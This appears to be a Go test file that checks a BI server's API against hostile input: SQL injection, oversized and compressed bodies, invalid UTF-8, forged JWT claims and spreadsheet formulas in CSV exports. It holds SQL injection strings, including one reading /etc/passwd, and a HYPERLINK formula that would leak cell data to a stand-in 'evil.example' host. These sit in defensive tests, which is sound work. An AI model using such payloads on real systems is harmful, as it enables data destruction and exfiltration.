package server_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/golang-jwt/jwt/v5"

	"github.com/beaconbi/beacon/queries"
	"github.com/beaconbi/beacon/server"
	"github.com/beaconbi/beacon/warehouse/warehousetest"
)

// injections are strings that would do harm if they reached SQL as text.
var injections = []string{
	`'; DROP TABLE customers; --`,
	`segment" FROM customers; DELETE FROM customers; --`,
	`1 OR 1=1`,
	`x') UNION SELECT * FROM read_csv('/etc/passwd') --`,
	"高净值'/**/OR/**/'1'='1",
	"\u0000\u202e;ATTACH 'x.db'",
}

func TestBadInputIsA4xxThatNamesTheField(t *testing.T) {
	srv := newServer(t, bank, server.AuthConfig{})
	cases := []struct {
		name   string
		body   string
		status int
		field  string
	}{
		{"malformed JSON", `{"metrics": ["churn_rate"`, 400, "body"},
		{"not an object", `["churn_rate"]`, 400, "body"},
		{"empty body", ``, 400, "body"},
		{"trailing data", `{"metrics":["aum"]} {}`, 400, "body"},
		{"unknown field", `{"metrics":["aum"],"dimension":["segment"]}`, 400, "dimension"},
		{"unknown metric", `{"metrics":["churn_rat"]}`, 400, "metrics[0]"},
		{"unknown dimension", `{"metrics":["aum"],"dimensions":["segmnt"]}`, 400, "dimensions[0]"},
		{"unknown operator", `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"like","value":"x"}]}`, 400, "filters[0].op"},
		{"metrics not a list", `{"metrics":"aum"}`, 400, "metrics"},
		{"limit is text", `{"metrics":["aum"],"limit":"ten"}`, 400, "limit"},
		{"limit 10^9", `{"metrics":["aum"],"limit":1000000000}`, 400, "limit"},
		{"limit beyond int", `{"metrics":["aum"],"limit":1e30}`, 400, "limit"},
		{"number for a text dimension", `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"eq","value":42}]}`, 400, "filters[0].value"},
		{"object as a value", `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"eq","value":{"a":1}}]}`, 400, "filters[0].value"},
		{"impossible date", `{"metrics":["aum"],"time":{"start":"2025-02-30","end":"2025-03-31"}}`, 400, "time.start"},
		{"date in the wrong form", `{"metrics":["aum"],"time":{"start":"03/01/2025","end":"2025-03-31"}}`, 400, "time.start"},
		{"range and dates", `{"metrics":["aum"],"time":{"range":"last_month","start":"2025-01-01","end":"2025-01-31"}}`, 400, "time"},
		{"compare without a range", `{"metrics":["aum"],"compare":"previous_period"}`, 400, "compare"},
		{"too many values", `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"in","values":[` + strings.Repeat(`"x",`, 2000) + `"x"]}]}`, 400, "filters[0].values"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := do(t, srv, "POST", "/api/v1/query", []byte(tc.body))
			checkError(t, r, tc.status, tc.field)
		})
	}
	healthy(t, srv)
}

func checkError(t *testing.T, r response, status int, field string) {
	t.Helper()
	if r.status != status {
		t.Fatalf("status %d, want %d: %.300s", r.status, status, r.body)
	}
	e, ok := r.json(t)["error"].(map[string]any)
	if !ok {
		t.Fatalf("no error object: %.300s", r.body)
	}
	if e["message"] == "" || e["code"] == "" {
		t.Fatalf("error without code or message: %v", e)
	}
	if field != "" && e["field"] != field {
		t.Fatalf("error names field %v, want %q: %v", e["field"], field, e)
	}
	if strings.Contains(strings.ToLower(e["message"].(string)), "panic") {
		t.Fatalf("error leaks a panic: %v", e)
	}
}

// healthy checks the server still answers and the data is intact.
func healthy(t *testing.T, srv *server.Server) {
	t.Helper()
	if r := do(t, srv, "GET", "/healthz", nil); r.status != 200 {
		t.Fatalf("healthz after bad input: %d", r.status)
	}
	if n := warehousetest.Rows(t, bank, "SELECT count(*) FROM customers")[0][0]; n != float64(5000) {
		t.Fatalf("customers has %v rows, want 5000", n)
	}
	r := do(t, srv, "POST", "/api/v1/query", []byte(`{"metrics":["customers"],"time":{"range":"last_month"}}`))
	if r.status != 200 {
		t.Fatalf("a good query after bad input: %d %s", r.status, r.body)
	}
}

func TestInjectionInEveryStringField(t *testing.T) {
	srv := newServer(t, bank, server.AuthConfig{})
	for _, evil := range injections {
		e, _ := json.Marshal(evil)
		s := string(e)
		cases := map[string]string{
			"metrics":          `{"metrics":[` + s + `]}`,
			"dimensions":       `{"metrics":["aum"],"dimensions":[` + s + `]}`,
			"filter dimension": `{"metrics":["aum"],"filters":[{"dimension":` + s + `,"op":"eq","value":"x"}]}`,
			"filter op":        `{"metrics":["aum"],"filters":[{"dimension":"segment","op":` + s + `,"value":"x"}]}`,
			"time range":       `{"metrics":["aum"],"time":{"range":` + s + `}}`,
			"time grain":       `{"metrics":["aum"],"time":{"grain":` + s + `}}`,
			"time zone":        `{"metrics":["aum"],"time":{"range":"last_month","time_zone":` + s + `}}`,
			"time start":       `{"metrics":["aum"],"time":{"start":` + s + `,"end":"2025-01-01"}}`,
			"compare":          `{"metrics":["aum"],"time":{"range":"last_month"},"compare":` + s + `}`,
			"order":            `{"metrics":["aum"],"order":[{"by":` + s + `}]}`,
		}
		for name, body := range cases {
			r := do(t, srv, "POST", "/api/v1/query", []byte(body))
			if r.status != 400 {
				t.Errorf("%s = %q: status %d, want 400: %.200s", name, evil, r.status, r.body)
			}
		}
		// As a filter value it is data: bound as a parameter, it matches nothing.
		for _, op := range []string{"eq", "contains", "neq"} {
			body := `{"metrics":["customers"],"filters":[{"dimension":"branch","op":"` + op + `","value":` + s + `}]}`
			r := do(t, srv, "POST", "/api/v1/query", []byte(body))
			if r.status != 200 {
				t.Errorf("filter value %q with %s: status %d: %.200s", evil, op, r.status, r.body)
			}
		}
		get := do(t, srv, "GET", "/api/v1/metrics/churn_rate?by="+url.QueryEscape(evil), nil)
		checkError(t, get, 400, "dimensions[0]")
		get = do(t, srv, "GET", "/api/v1/metrics/"+url.PathEscape(evil), nil)
		checkError(t, get, 404, "name")
	}
	healthy(t, srv)
}

// A body over the limit is refused from its headers, before it is read: the
// client below announces 50 MiB and sends none of it.
func TestHugeBodyIsRejected(t *testing.T) {
	srv := newServer(t, bank, server.AuthConfig{})
	base := serveOn(t, srv)
	conn, err := net.Dial("tcp", strings.TrimPrefix(base, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "POST /api/v1/query HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", 50<<20)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	checkError(t, read(resp), 413, "")
	healthy(t, srv)
}

func TestUnknownRouteAndMethod(t *testing.T) {
	srv := newServer(t, bank, server.AuthConfig{})
	checkError(t, do(t, srv, "GET", "/api/v1/nothing", nil), 404, "")
	checkError(t, do(t, srv, "GET", "/api/v1/metrics/nope", nil), 404, "name")
	checkError(t, do(t, srv, "GET", "/api/v1/metrics/aum?limit=abc", nil), 400, "limit")
	checkError(t, do(t, srv, "GET", "/api/v1/metrics/aum?filter=segment", nil), 400, "filter")
}

func TestCompressedBodiesAreRefusedUnread(t *testing.T) {
	srv := newServer(t, bank, server.AuthConfig{})
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	w.Write(bytes.Repeat([]byte(" "), 10<<20))
	w.Close()
	r := do(t, srv, "POST", "/api/v1/query", gz.Bytes(), "Content-Encoding", "gzip")
	checkError(t, r, 415, "")
	// A second header must not smuggle the encoding past the check.
	req := httptest.NewRequest("POST", "/api/v1/query", bytes.NewReader(gz.Bytes()))
	req.Header.Add("Content-Encoding", "identity")
	req.Header.Add("Content-Encoding", "gzip")
	resp, err := srv.App().Test(req, -1)
	if err != nil || resp.StatusCode != 415 {
		t.Fatalf("two Content-Encoding headers: %v %v, want 415", resp.StatusCode, err)
	}
	healthy(t, srv)
}

// corpusCase is one hostile or careless request of the corpus.
type corpusCase struct {
	name         string
	method, path string
	body         string // raw bytes: Go string literals may hold invalid UTF-8
	auth         string // the Authorization header; empty means an admin token
	status       int
	field        string                         // the field a 4xx must name ("" for any)
	check        func(t *testing.T, r response) // more about a good answer
}

// TestHostileInputCorpus sends the corpus of small hostile inputs to a real
// HTTP server with authentication on: each is refused with a 4xx naming
// what is wrong, or answered correctly, and the server stays healthy.
func TestHostileInputCorpus(t *testing.T) {
	db, eng, uploads := lockedBank(t)
	srv, err := server.New(server.Config{Addr: "127.0.0.1:0", DB: db, Engine: eng, Auth: server.AuthConfig{Secret: secret},
		Guard: queries.NewGuard(eng, 1000), Chat: queries.NewChat(eng, queries.ChatConfig{}), UploadDir: uploads, Logger: quietLogger()})
	if err != nil {
		t.Fatal(err)
	}
	base := serveHTTP(t, srv)
	exp := time.Now().Add(time.Hour).Unix()
	admin := "Bearer " + token(t, jwt.SigningMethodHS256, secret, claims("admin", nil))
	bare := strings.TrimPrefix(admin, "Bearer ")
	viewerClaims := func(extra string) string {
		return fmt.Sprintf(`{"sub":"tester","role":"viewer","exp":%d%s}`, exp, extra)
	}
	hs256 := `{"alg":"HS256","typ":"JWT"}`
	critical := jwt.NewWithClaims(jwt.SigningMethodHS256, claims("admin", nil))
	critical.Header["crit"] = []string{"exp"}
	critToken, err := critical.SignedString(secret)
	if err != nil {
		t.Fatal(err)
	}
	branch := warehousetest.Rows(t, db, "SELECT branch_name FROM branches ORDER BY branch_id LIMIT 1")[0][0].(string)
	other := warehousetest.Rows(t, db, "SELECT branch_name FROM branches ORDER BY branch_id DESC LIMIT 1")[0][0].(string)
	customers := int(warehousetest.Rows(t, db, "SELECT count(*) FROM customers")[0][0].(float64))

	// (DuckDB's sniffer takes no tab or CR in a header: the free SQL case covers those.)
	evilHead := []string{`=HYPERLINK("http://evil.example/?"&A1)`, "+SUM(A1)", "-2+3", "@cmd", "＝1", "amount"}
	var evil bytes.Buffer
	cw := csv.NewWriter(&evil)
	cw.WriteAll([][]string{evilHead, {"=1+1", "+1", "-x", "@A1", "＝2", "5"}})
	evilCSV := evil.String()
	asUTF16 := func(s string, bigEndian, bom bool) string {
		var b []byte
		if bom {
			b = append(b, 0xFF, 0xFE)
			if bigEndian {
				b[0], b[1] = 0xFE, 0xFF
			}
		}
		for _, u := range utf16.Encode([]rune(s)) {
			if bigEndian {
				b = append(b, byte(u>>8), byte(u))
			} else {
				b = append(b, byte(u), byte(u>>8))
			}
		}
		return string(b)
	}
	plainCSV := "id,name\n1,上海\n2,北京\n"
	gbkHeader := "\xbf\xcd\xbb\xa7,amount\n1,2\n" // 客户 in GBK
	notUTF8 := func(r response) string { return r.json(t)["error"].(map[string]any)["message"].(string) }
	saysUTF8 := func(t *testing.T, r response) {
		msg := notUTF8(r)
		if !strings.Contains(msg, "UTF-8") || strings.ContainsRune(msg, 0) {
			t.Fatalf("the refusal should say the file must be UTF-8 and hold no NUL: %q", msg)
		}
	}

	cases := []corpusCase{
		// CSV exports defuse formulas in headers and cells, from free SQL and from uploaded headers.
		{name: "free SQL headers and cells as CSV", method: "POST", path: "/api/v1/sql?format=csv",
			body:   `{"sql":"SELECT '=HYPERLINK(\"http://evil.example\")' AS \"=HYPERLINK(\"\"http://evil.example\"\")\", '+1' AS \"+x\", '-1' AS \"-x\", '@A1' AS \"@x\", chr(9) || '=1' AS \"\tx\", chr(13) || '=1' AS \"\rx\", '＝1' AS \"＝x\", 'plain' AS plain, -5 AS n"}`,
			status: 200, check: func(t *testing.T, r response) {
				recs := readCSV(t, r.body)
				want := [][]string{
					{`'=HYPERLINK("http://evil.example")`, "'+x", "'-x", "'@x", "'\tx", "'\rx", "'＝x", "plain", "n"},
					{`'=HYPERLINK("http://evil.example")`, "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "'＝1", "plain", "-5"},
				}
				if !slices.EqualFunc(recs, want, slices.Equal) {
					t.Fatalf("CSV export %q, want %q", recs, want)
				}
			}},
		{name: "upload with formula headers", method: "POST", path: "/api/v1/tables/evil", body: evilCSV, status: 200},
		{name: "uploaded formula headers exported as CSV", method: "POST", path: "/api/v1/sql?format=excel",
			body: `{"sql":"SELECT * FROM evil"}`, status: 200, check: func(t *testing.T, r response) {
				recs := readCSV(t, bytes.TrimPrefix(r.body, []byte("\ufeff")))
				for i, h := range recs[0] {
					if want := evilHead[i]; h != want && h != "'"+want {
						t.Errorf("header %d is %q, want %q defused", i, h, want)
					}
					if h != "amount" && !strings.HasPrefix(h, "'") {
						t.Errorf("header %q is not defused", h)
					}
				}
				for i, c := range recs[1][:5] {
					if !strings.HasPrefix(c, "'") {
						t.Errorf("cell %d %q is not defused", i, c)
					}
				}
			}},

		// Invalid UTF-8 and lone surrogates are refused, naming the field.
		{name: "chat question not UTF-8", method: "POST", path: "/api/v1/chat", body: "{\"question\":\"流失率\xff\"}", status: 400, field: "question"},
		{name: "chat question truncated rune", method: "POST", path: "/api/v1/chat", body: "{\"question\":\"流失\xe7\x8e\"}", status: 400, field: "question"},
		{name: "chat question lone surrogate", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率\ud800"}`, status: 400, field: "question"},
		{name: "chat question low surrogate first", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率\udc00\ud800"}`, status: 400, field: "question"},
		{name: "chat question with a surrogate pair", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率 \ud83d\ude00"}`, status: 200},
		{name: "chat question with an escaped backslash before u", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率 \\ud800"}`, status: 200},
		{name: "chat question with a real U+FFFD", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率 \ufffd �"}`, status: 200},
		{name: "filter value not UTF-8", method: "POST", path: "/api/v1/query",
			body: "{\"metrics\":[\"aum\"],\"filters\":[{\"dimension\":\"segment\",\"op\":\"eq\",\"value\":\"\xc3\x28\"}]}", status: 400, field: "filters[0].value"},
		{name: "filter list value not UTF-8", method: "POST", path: "/api/v1/query",
			body: "{\"metrics\":[\"aum\"],\"filters\":[{\"dimension\":\"segment\",\"op\":\"in\",\"values\":[\"x\",\"\xed\xa0\x80\"]}]}", status: 400, field: "filters[0].values[1]"},
		{name: "GET filter not UTF-8", method: "GET", path: "/api/v1/metrics/aum?filter=segment:eq:%C3%28", status: 400, field: "filter"},
		{name: "SQL not UTF-8", method: "POST", path: "/api/v1/sql", body: "{\"sql\":\"SELECT '\xff' AS x\"}", status: 400, field: "sql"},
		{name: "time zone not UTF-8", method: "POST", path: "/api/v1/query", body: "{\"metrics\":[\"aum\"],\"time\":{\"range\":\"last_month\",\"time_zone\":\"Asia/\xff\"}}", status: 400, field: "time.time_zone"},
		{name: "key not UTF-8", method: "POST", path: "/api/v1/query", body: "{\"metrics\":[\"aum\"],\"\xff\":1}", status: 400},

		// Keys match exactly, once.
		{name: "duplicate key", method: "POST", path: "/api/v1/query", body: `{"metrics":["nope"],"metrics":["aum"]}`, status: 400, field: "metrics"},
		{name: "duplicate nested key", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"time":{"range":"last_month","range":"this_month"}}`, status: 400, field: "time.range"},
		{name: "duplicate key in a filter", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"eq","value":"x","op":"neq"}]}`, status: 400, field: "filters[0].op"},
		{name: "duplicate question", method: "POST", path: "/api/v1/chat", body: `{"question":"流失率","question":"AUM"}`, status: 400, field: "question"},
		{name: "duplicate sql", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT 1","sql":"SELECT 2"}`, status: 400, field: "sql"},
		{name: "capitalised key", method: "POST", path: "/api/v1/query", body: `{"Metrics":["aum"]}`, status: 400, field: "Metrics"},
		{name: "capitalised limit", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"LIMIT":5}`, status: 400, field: "LIMIT"},
		{name: "capitalised nested key", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"time":{"Range":"last_month"}}`, status: 400, field: "time.Range"},
		{name: "capitalised sql key", method: "POST", path: "/api/v1/sql", body: `{"SQL":"SELECT 1"}`, status: 400, field: "SQL"},
		{name: "deep nesting", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"filters":[{"dimension":"segment","op":"eq","value":` + strings.Repeat("[", 10000) + strings.Repeat("]", 10000) + `}]}`, status: 400},

		// limit runs from 1; a JSON number is a number however it is written.
		{name: "limit 0", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"limit":0}`, status: 400, field: "limit"},
		{name: "GET limit 0", method: "GET", path: "/api/v1/metrics/aum?limit=0", status: 400, field: "limit"},
		{name: "SQL limit 0", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT 1","limit":0}`, status: 400, field: "limit"},
		{name: "SQL limit -1", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT 1","limit":-1}`, status: 400, field: "limit"},
		{name: "limit 1.5", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"limit":1.5}`, status: 400, field: "limit", check: func(t *testing.T, r response) {
			if msg := notUTF8(r); !strings.Contains(msg, "whole number") {
				t.Fatalf("message %q does not say limit must be a whole number", msg)
			}
		}},
		{name: "limit 1e400", method: "POST", path: "/api/v1/query", body: `{"metrics":["aum"],"limit":1e400}`, status: 400, field: "limit"},
		{name: "limit 1e3", method: "POST", path: "/api/v1/query", body: `{"metrics":["customers"],"dimensions":["branch"],"limit":1e3}`, status: 200, check: func(t *testing.T, r response) {
			if q := r.json(t)["query"].(map[string]any); q["limit"] != float64(1000) {
				t.Fatalf("limit 1e3 was read as %v, want 1000", q["limit"])
			}
		}},
		{name: "SQL limit 1e2 cuts at 100", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT customer_id FROM customers","limit":1e2}`, status: 200, check: func(t *testing.T, r response) {
			if n := len(rowsOf(t, r)); n != 100 || customers <= 100 || r.json(t)["truncated"] != true {
				t.Fatalf("limit 1e2 over %d customers: %d rows, truncated %v", customers, n, r.json(t)["truncated"])
			}
		}},
		{name: "SQL limit 2.0E1 cuts at 20", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT customer_id FROM customers","limit":2.0E1}`, status: 200, check: func(t *testing.T, r response) {
			if n := len(rowsOf(t, r)); n != 20 {
				t.Fatalf("limit 2.0E1: %d rows, want 20", n)
			}
		}},

		// JWT: the scheme is case-insensitive; claims are held to the letter.
		{name: "lowercase bearer", method: "GET", path: "/api/v1/metrics", auth: "bearer " + bare, status: 200},
		{name: "uppercase bearer", method: "GET", path: "/api/v1/metrics", auth: "BEARER " + bare, status: 200},
		{name: "bearer without a token", method: "GET", path: "/api/v1/metrics", auth: "bearer ", status: 401},
		{name: "exp as a string", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, fmt.Sprintf(`{"sub":"tester","role":"admin","exp":"%d"}`, exp)), status: 401},
		{name: "nbf as a string", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, viewerClaims(`,"nbf":"0"`)), status: 401},
		{name: "iat as a string", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, viewerClaims(`,"iat":"0"`)), status: 401},
		{name: "numbers as numbers", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, viewerClaims(`,"nbf":0,"iat":0,"name":"an extra claim"`)), status: 200},
		{name: "crit header", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + critToken, status: 401},
		{name: "duplicate alg", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(`{"alg":"HS256","alg":"none"}`, viewerClaims("")), status: 401},
		{name: "duplicate role", method: "GET", path: "/api/v1/tables", auth: "Bearer " + hmacToken(hs256, viewerClaims(`,"role":"admin"`)), status: 401},
		{name: "Branches after branches", method: "GET", path: "/api/v1/metrics/customers?range=last_month",
			auth: "Bearer " + hmacToken(hs256, viewerClaims(fmt.Sprintf(`,"branches":[%q],"Branches":[%q]`, branch, other))), status: 401},
		{name: "Branches before branches", method: "GET", path: "/api/v1/metrics/customers?range=last_month",
			auth: "Bearer " + hmacToken(hs256, viewerClaims(fmt.Sprintf(`,"Branches":[%q],"branches":[%q]`, other, branch))), status: 401},
		{name: "ROLE alone", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, fmt.Sprintf(`{"sub":"tester","ROLE":"admin","exp":%d}`, exp)), status: 401},
		{name: "claims not UTF-8", method: "GET", path: "/api/v1/metrics", auth: "Bearer " + hmacToken(hs256, viewerClaims(",\"name\":\"\xff\"")), status: 401},

		// UUIDs come back as their canonical text.
		{name: "uuid as text", method: "POST", path: "/api/v1/sql",
			body: `{"sql":"SELECT u, CAST(u AS VARCHAR) AS s, '6ba7b810-9dad-11d1-80b4-00c04fd430c8'::UUID AS fixed, [u, NULL] AS list FROM (SELECT uuid() AS u)"}`, status: 200,
			check: func(t *testing.T, r response) {
				row := rowsOf(t, r)[0]
				if row["u"] != row["s"] || row["fixed"] != "6ba7b810-9dad-11d1-80b4-00c04fd430c8" {
					t.Fatalf("uuid() came back as %q (DuckDB's text %q), fixed as %q", row["u"], row["s"], row["fixed"])
				}
				if l, _ := row["list"].([]any); len(l) != 2 || l[0] != row["s"] || l[1] != nil {
					t.Fatalf("a UUID list came back as %v, want [%v <nil>]", row["list"], row["s"])
				}
			}},
		{name: "blob stays bytes", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT 'abcdefghijklmnop'::BLOB AS b"}`, status: 200,
			check: func(t *testing.T, r response) {
				if b := rowsOf(t, r)[0]["b"]; b != "abcdefghijklmnop" {
					t.Fatalf("a 16-byte BLOB came back as %q", b)
				}
			}},

		// A CSV upload must be UTF-8.
		{name: "UTF-16LE with BOM", method: "POST", path: "/api/v1/tables/wide", body: asUTF16(plainCSV, false, true), status: 400, field: "body", check: saysUTF8},
		{name: "UTF-16BE with BOM", method: "POST", path: "/api/v1/tables/wide", body: asUTF16(plainCSV, true, true), status: 400, field: "body", check: saysUTF8},
		{name: "UTF-16LE without BOM", method: "POST", path: "/api/v1/tables/wide", body: asUTF16(plainCSV, false, false), status: 400, field: "body", check: saysUTF8},
		{name: "GBK header", method: "POST", path: "/api/v1/tables/wide", body: gbkHeader, status: 400, field: "body", check: saysUTF8},
		{name: "GBK row is a bad row by line", method: "POST", path: "/api/v1/tables/wide", body: "id,name\n1,ok\n2,\xbf\xcd\xbb\xa7\n", status: 422,
			check: func(t *testing.T, r response) {
				rows := r.json(t)["error"].(map[string]any)["rows"].([]any)
				if len(rows) != 1 || rows[0].(map[string]any)["line"] != float64(3) {
					t.Fatalf("bad rows %v, want line 3", rows)
				}
			}},
		{name: "UTF-8 with BOM loads", method: "POST", path: "/api/v1/tables/wide", body: "\ufeff" + plainCSV, status: 200},
		{name: "UTF-8 upload reads back", method: "POST", path: "/api/v1/sql", body: `{"sql":"SELECT id, name FROM wide ORDER BY id"}`, status: 200,
			check: func(t *testing.T, r response) {
				rows := rowsOf(t, r)
				if len(rows) != 2 || rows[0]["name"] != "上海" || rows[1]["name"] != "北京" {
					t.Fatalf("wide holds %v", rows)
				}
			}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			auth := tc.auth
			if auth == "" {
				auth = admin
			}
			r := send(t, base, tc.method, tc.path, []byte(tc.body), auth)
			if tc.status >= 400 {
				checkError(t, r, tc.status, tc.field)
			} else if r.status != tc.status {
				t.Fatalf("status %d, want %d: %.300s", r.status, tc.status, r.body)
			}
			if tc.check != nil {
				tc.check(t, r)
			}
		})
	}
	if r := send(t, base, "GET", "/healthz", nil, ""); r.status != 200 {
		t.Fatalf("healthz after the corpus: %d", r.status)
	}
	if r := send(t, base, "POST", "/api/v1/query", []byte(`{"metrics":["customers"],"time":{"range":"last_month"}}`), admin); r.status != 200 {
		t.Fatalf("a good query after the corpus: %d %s", r.status, r.body)
	}
}

// serveHTTP serves srv on a loopback port until the test ends and returns its base URL.
func serveHTTP(t *testing.T, srv *server.Server) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Shutdown(context.Background()) })
	return "http://" + ln.Addr().String()
}

// send makes one request over HTTP.
func send(t *testing.T, base, method, path string, body []byte, auth string) response {
	t.Helper()
	req, err := http.NewRequest(method, base+path, bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if auth != "" {
		req.Header.Set("Authorization", auth)
	}
	client := &http.Client{Timeout: time.Minute}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response{status: resp.StatusCode, header: resp.Header, body: b}
}

// hmacToken signs header and claims JSON exactly as written (duplicate or
// miscased keys included), which a JWT library would not produce.
func hmacToken(header, claims string) string {
	enc := base64.RawURLEncoding
	signing := enc.EncodeToString([]byte(header)) + "." + enc.EncodeToString([]byte(claims))
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(signing))
	return signing + "." + enc.EncodeToString(mac.Sum(nil))
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil || len(recs) < 2 {
		t.Fatalf("not a CSV with a header and a row (%v): %q", err, b)
	}
	return recs
}
